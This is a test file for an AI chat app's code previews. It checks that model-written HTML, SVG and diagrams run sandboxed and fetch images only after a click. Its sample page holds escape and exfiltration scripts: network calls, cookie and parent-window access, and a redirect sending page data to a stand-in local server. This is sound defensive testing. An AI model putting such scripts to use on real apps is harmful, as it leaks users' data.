/** Code that describes a page or picture is shown beside its text, and reaches nothing from there. */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { startOllamaServer } from './ollama-server/server.ts'
import { expectAccessible, tooWide } from './support/checks.ts'
import { sendMessage } from './support/chat.ts'
import { createSatchel, expect, test } from './support/satchel.ts'

/** What scripts of a page try, from whatever frames they are in. */
const attacksOn = (elsewhere: string): string => `<!doctype html>
<title>A page</title><h1>Hello</h1><p id="out">running</p>
<img src="${elsewhere}/image"><link rel="stylesheet" href="${elsewhere}/style"><iframe src="${elsewhere}/frame"></iframe>
<script src="${elsewhere}/script"></script>
<form action="${elsewhere}/form"><input name="a"></form>
<script>
const got = []
const attempt = async (name, act) => { try { if (await act()) got.push(name) } catch {} }
const run = async () => {
  await attempt('fetch', () => fetch('${elsewhere}/fetch', { mode: 'no-cors' }))
  await attempt('app', () => fetch('/index.html'))
  await attempt('beacon', () => { navigator.sendBeacon('${elsewhere}/beacon'); return false })
  await attempt('socket', () => new Promise((yes, no) => { const s = new WebSocket('${elsewhere.replace('http', 'ws')}/socket'); s.onopen = yes; s.onerror = no }))
  await attempt('parent', () => parent.document.title)
  await attempt('storage', () => { localStorage.setItem('a', 'b'); return true })
  await attempt('cookie', () => { document.cookie = 'a=b'; return document.cookie })
  await attempt('window', () => window.open('${elsewhere}/window'))
  await attempt('top', () => { top.location = '${elsewhere}/top'; return false })
  await attempt('form', () => { document.forms[0].submit(); return false })
  await attempt('origin', () => origin !== 'null')
  await attempt('worker', () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = yes; w.onerror = no }))
  out.textContent = 'got: ' + got.join(', ')
  parent.postMessage({ shown: 99999 }, '*')
  parent.postMessage({ problem: '<img src=x>' }, '*')
}
run()
</script>`

const answerOf = (elsewhere: string): string => `\`\`\`html
${attacksOn(elsewhere)}
\`\`\`

\`\`\`svg
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 100" width="200" height="100"><script>parent.postMessage({ problem: 'ran' }, '*')</script><circle cx="50" cy="50" r="40" fill="teal"/></svg>
\`\`\`

\`\`\`mermaid
graph LR
  A[Wish] --> B[Plan] --> C[Done]
  click A "${elsewhere}/diagram"
\`\`\`

\`\`\`mermaid
graph nonsense (((
\`\`\`

\`\`\`html
<script>location = '${elsewhere}/moved?' + document.body.innerHTML.length</script>Moved
\`\`\`

\`\`\`ts
const nothing = 1
\`\`\`
`

test('pages, pictures and diagrams are shown, and reach neither the app nor a network', async ({ page }) => {
  const reached: string[] = []
  const elsewhere = createServer((request, response) => {
    reached.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.1', done))
  const origin = `http://127.0.0.1:${String((elsewhere.address() as AddressInfo).port)}`
  const model = await startOllamaServer({
    script: { about: 'writes code', turns: [{ reply: { chunks: [{ content: answerOf(origin) }] } }] },
  })
  const satchel = createSatchel({ env: { OLLAMA_HOST: model.url } })
  try {
    await satchel.open(page)
    await sendMessage(page, 'Show me everything.')
    const answer = page.getByRole('article', { name: 'Satchel' })
    const buttons = answer.getByRole('button', { name: /^(?:Preview|Show diagram|Hide)$/ })
    await expect(buttons).toHaveCount(5)
    expect(await answer.locator('iframe').count()).toBe(0)

    await buttons.nth(0).focus()
    await page.keyboard.press('Enter')
    const frames = answer.locator('iframe')
    await expect(frames.first().contentFrame().locator('#out')).toHaveText('got: ')
    await expect(frames.first().contentFrame().getByRole('heading', { name: 'Hello' })).toBeVisible()
    await expect(buttons.nth(0)).toHaveAttribute('aria-expanded', 'true')
    // What it says of itself changes nothing once it is shown.
    await expect(answer.getByText('Preview of the code above', { exact: false })).toBeVisible()
    expect((await frames.first().boundingBox())?.height).toBeLessThan(700)

    await buttons.nth(1).click()
    const picture = frames.nth(1).contentFrame().locator('img')
    await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(200)

    await buttons.nth(2).click()
    await expect(frames.nth(2).contentFrame().locator('svg')).toContainText('Wish')

    await buttons.nth(3).click()
    await expect(answer.getByText('This diagram can’t be drawn.', { exact: false })).toBeVisible()

    await buttons.nth(4).click()
    await expect(frames).toHaveCount(4)
    // A moved frame leads nowhere.
    await expect.poll(() => page.frames().map((one) => one.url())).not.toContain(`${origin}/moved`)
    await page.waitForTimeout(500)
    expect(reached).toEqual([])
    expect(page.url()).not.toContain(origin)

    await expectAccessible(page, 'previews')
    await buttons.nth(0).click()
    await expect(frames).toHaveCount(3)
    await page.setViewportSize({ width: 420, height: 700 })
    expect(await tooWide(page)).toEqual([])
  } finally {
    await satchel.dispose()
    await model.close()
    elsewhere.close()
  }
})

/** The smallest PNG there is. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)

test('a picture is fetched once a person wants to see it, by the daemon', async ({ page }) => {
  const asked: (string | undefined)[] = []
  const elsewhere = createServer((request, response) => {
    asked.push(request.headers['user-agent'])
    if (request.url === '/cat.png') response.end(PIXEL)
    else response.setHeader('content-type', 'image/png').end('<svg xmlns="http://www.w3.org/2000/svg"/>')
  })
  await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.1', done))
  const host = `localhost:${String((elsewhere.address() as AddressInfo).port)}`
  const content = `Look: ![a cat](http://${host}/cat.png) and ![a drawing](http://${host}/drawing.png) and ![no](data:image/png,x)`
  const model = await startOllamaServer({
    script: { about: 'shows pictures', turns: [{ reply: { chunks: [{ content }] } }] },
  })
  const satchel = createSatchel({ env: { OLLAMA_HOST: model.url } })
  try {
    await satchel.run('--yes', 'agents', 'development', host)
    await satchel.open(page)
    await sendMessage(page, 'Show me a cat.')
    const answer = page.getByRole('article', { name: 'Satchel' })
    const show = answer.getByRole('button', { name: `Show the image from ${host}` })
    await expect(show).toHaveCount(2)
    expect(asked).toEqual([])
    await show.first().click()
    const cat = answer.getByRole('img', { name: 'a cat' })
    await expect.poll(() => cat.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1)
    expect(asked).toHaveLength(1)
    expect(asked[0]).not.toContain('Mozilla')
    // What isn't a picture by its bytes isn't shown as one.
    await show.click()
    await expect(show).toContainText('can’t be shown')
    await expect(answer.getByRole('img')).toHaveCount(1)
    await expectAccessible(page, 'a picture')
  } finally {
    await satchel.dispose()
    await model.close()
    elsewhere.close()
  }
})
